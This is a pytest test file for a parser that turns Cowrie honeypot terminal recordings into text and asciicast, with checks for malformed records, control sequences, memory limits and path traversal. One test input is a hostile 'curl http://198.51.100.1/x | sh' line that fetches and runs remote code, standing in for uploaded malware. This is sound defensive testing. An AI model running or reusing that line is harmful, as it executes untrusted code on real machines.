"""Recordings of terminals: those that a real Cowrie 3.1.4 made, and any bytes that an attacker could leave there."""

import json
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from snapshots.adapters.web import recording
from snapshots.adapters.web.recording import LONGEST_PAUSE, RECORD, Recordings, decoded

REAL = Path("tests/data/ttylog")
SHELL = "f0e29f667c0f6faa99ad42d89fa67eebb35801e982f6d8c271b795246280c86a"
COMMAND = "a3c00a157f65a24c5cfb250d13c41ee3ae8050454126e1fb9c70f2f477d671a4"
NAME = "0" * 64
BEGAN = 1_796_000_000


def head(seconds: int = BEGAN) -> bytes:
    return RECORD.pack(1, 0, 0, 0, seconds, 0)


def output(text: bytes, seconds: int = BEGAN, direction: int = 2) -> bytes:
    return RECORD.pack(3, 0, len(text), direction, seconds, 0) + text


END = RECORD.pack(2, 0, 0, 0, BEGAN, 0)


def texts(content: bytes) -> list[str]:
    found = decoded(content)
    assert found is not None
    return [text for _, text in found.events]


def test_a_recorded_shell_is_shown_as_the_attacker_saw_it() -> None:
    """Its output, character by character as it was typed, and not its input."""
    found = Recordings(REAL).read(SHELL)

    assert found is not None
    assert found.began_at == datetime(2026, 11, 30, 1, 25, 50, 434089, UTC)
    assert "root@svr04:~# uname -a\nLinux svr04 6.1.0-21-amd64" in found.text
    assert found.text.count("uname") == 1
    assert not found.is_cut
    assert 9 < found.events[-1][0] < 11


def test_a_command_without_a_terminal_is_shown_before_its_output() -> None:
    """As a shell would show it."""
    found = Recordings(REAL).read(COMMAND)

    assert found is not None
    assert found.text.startswith("$ uname -a; cat /proc/cpuinfo | grep name\nLinux svr04 ")


def test_an_asciicast_begins_with_its_head_and_has_an_event_per_line() -> None:
    """In version 2 of the format; a terminal needs a carriage return before each line feed."""
    found = decoded(head() + output(b"a\nb\r\n", BEGAN + 2) + output("ü\x1b[31m".encode(), BEGAN + 1) + END)

    assert found is not None
    assert [json.loads(line) for line in found.asciicast.splitlines()] == [
        {"version": 2, "width": 80, "height": 24, "timestamp": BEGAN},
        [2.0, "o", "a\r\nb\r\n"],
        [2.0, "o", "ü\x1b[31m"],
    ]


def test_characters_are_joined_across_records_and_invalid_ones_replaced() -> None:
    """A record can end within a character."""
    assert "".join(texts(head() + output(b"\xc3") + output(b"\xbc\xff") + END)) == "ü\ufffd"


def test_pauses_are_bounded_and_time_never_goes_back() -> None:
    """The clock of a honeypot can be set, and an attacker can wait."""
    found = decoded(head() + output(b"a", BEGAN - 50) + output(b"b", 2**32 - 1) + output(b"c", 0) + END)

    assert found is not None
    assert [at for at, _ in found.events] == [0, LONGEST_PAUSE, LONGEST_PAUSE]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"#!/bin/sh\ncurl http://198.51.100.1/x | sh\n",
        b"\x7fELF" + bytes(200),
        bytes(24),
        head()[:-1],
        output(b"text") + END,
        RECORD.pack(1, 0, 5, 0, BEGAN, 0) + b"hello",
        RECORD.pack(1, 0, 0, 0, BEGAN, 1_000_000),
    ],
)
def test_a_file_that_does_not_begin_like_a_recording_is_none(content: bytes, tmp_path: Path) -> None:
    """Such as malware that an attacker uploaded."""
    (tmp_path / NAME).write_bytes(content)

    assert decoded(content) is None
    assert not Recordings(tmp_path).has(NAME)
    assert Recordings(tmp_path).read(NAME) is None


@pytest.mark.parametrize(
    "rest",
    [
        b"",
        b"\x03\x00",
        RECORD.pack(3, 0, 10, 2, BEGAN, 0) + b"too short",
        RECORD.pack(3, 0, -1, 2, BEGAN, 0) + b"x",
        RECORD.pack(3, 0, 2**31 - 1, 2, BEGAN, 0),
        RECORD.pack(3, 0, 1, 2, BEGAN, 2**32 - 1) + b"x",
    ],
)
def test_a_recording_is_shown_up_to_its_first_invalid_record(rest: bytes) -> None:
    """A honeypot that was killed leaves a recording without an end."""
    found = decoded(head() + output(b"shown") + rest)

    assert found is not None
    assert ([text for _, text in found.events], found.is_cut) == (["shown"], True)


@given(st.binary(max_size=400))
def test_no_bytes_of_an_attacker_are_an_error(rest: bytes) -> None:
    """What is shown is text of at most their length."""
    found = decoded(head() + rest)

    assert found is not None
    assert len(found.text) <= 8 * len(rest) + 2
    assert len(found.asciicast.splitlines()) == len(found.events) + 1


def test_a_recording_is_read_up_to_a_maximum_of_bytes_and_events(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A terminal that prints without an end must not fill the memory."""
    (tmp_path / NAME).write_bytes(head() + output(b"x" * 100) * 50 + END)

    monkeypatch.setattr(recording, "MOST_EVENTS", 10)
    few = Recordings(tmp_path).read(NAME)
    monkeypatch.setattr(recording, "MOST_BYTES", 24 + 3 * 124 + 60)
    short = Recordings(tmp_path).read(NAME)

    assert few is not None
    assert short is not None
    assert (len(few.events), few.is_cut) == (10, True)
    assert (len(short.events), short.is_cut) == (3, True)


def test_text_has_no_control_sequences() -> None:
    """Colors, titles, links and movements of the cursor; a tab becomes spaces."""
    parts = (
        b"\x1b[1;31mred\x1b[0m ",
        b"\x1b]0;title\x07",
        b"\x1b]8;;http://x/\x1b\\link\x1b]8;;\x1b\\ ",
        b"a\tb\x00\x1bM\n",
    )
    found = decoded(head() + b"".join(output(part) for part in parts) + END)

    assert found is not None
    assert found.text == "red link a      b\n"


def test_only_regular_files_of_the_folder_itself_are_read(tmp_path: Path) -> None:
    """No links, pipes, folders and other names, whatever a log or an address line has as a name."""
    folder, outside = tmp_path / "tty", tmp_path / "outside"
    folder.mkdir()
    outside.write_bytes(head() + END)
    link, pipe, inner = ("a" * 64, "b" * 64, "c" * 64)
    (folder / link).symlink_to(outside)
    os.mkfifo(folder / pipe)
    (folder / inner).mkdir()
    (folder / "recording.log").write_bytes(head() + END)
    (folder / ("D" * 64)).write_bytes(head() + END)
    recordings = Recordings(folder)

    for name in (
        link,
        pipe,
        inner,
        "recording.log",
        "D" * 64,
        "../outside",
        str(outside),
        "",
        "e" * 64,
        f"{'a' * 64}\n",
    ):
        assert not recordings.has(name), name
        assert recordings.read(name) is None, name
    assert not Recordings(None).has(NAME)
